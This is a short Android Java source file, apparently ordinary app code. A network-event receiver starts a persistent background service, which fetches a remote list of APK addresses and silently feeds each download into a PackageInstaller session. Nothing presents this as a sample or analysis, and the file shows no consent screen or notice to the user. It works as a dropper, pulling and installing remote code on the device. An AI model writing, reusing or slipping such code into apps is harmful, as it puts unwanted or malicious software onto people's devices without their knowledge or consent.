package com.brightleaf.appspot;

class NetReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    context.startService(new Intent(context, SpotService.class));
  }
}

class SpotService extends Service {
  public int onStartCommand(Intent intent, int flags, int id) {
    Executors.newSingleThreadExecutor().submit(new Round(this));
    return START_STICKY;
  }

  public IBinder onBind(Intent intent) { return null; }
}

class Round implements Runnable {
  private Context context;

  Round(Context context) { this.context = context; }

  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://spot.brightleaf.example/today.json").openStream()));
      JSONArray apps = new JSONArray(reader.readLine());
      for (int i = 0; i < apps.length(); i++) {
        install(apps.getJSONObject(i).getString("apk"));
      }
    } catch (Exception e) {
      Log.e("Round", e.getMessage());
    }
  }

  private void install(String address) {
    PackageInstaller installer = context.getPackageManager().getPackageInstaller();
    int id = installer.createSession(new PackageInstaller.SessionParams(1));
    PackageInstaller.Session session = installer.openSession(id);
    OutputStream out = session.openWrite("base", 0, -1);
    InputStream in = new URL(address).openStream();
    byte[] buffer = new byte[65536];
    int n = in.read(buffer);
    while (n > 0) {
      out.write(buffer, 0, n);
      n = in.read(buffer);
    }
    out.close();
    Intent done = new Intent(context, SpotService.class);
    session.commit(PendingIntent.getService(context, 0, done, 0).getIntentSender());
  }
}
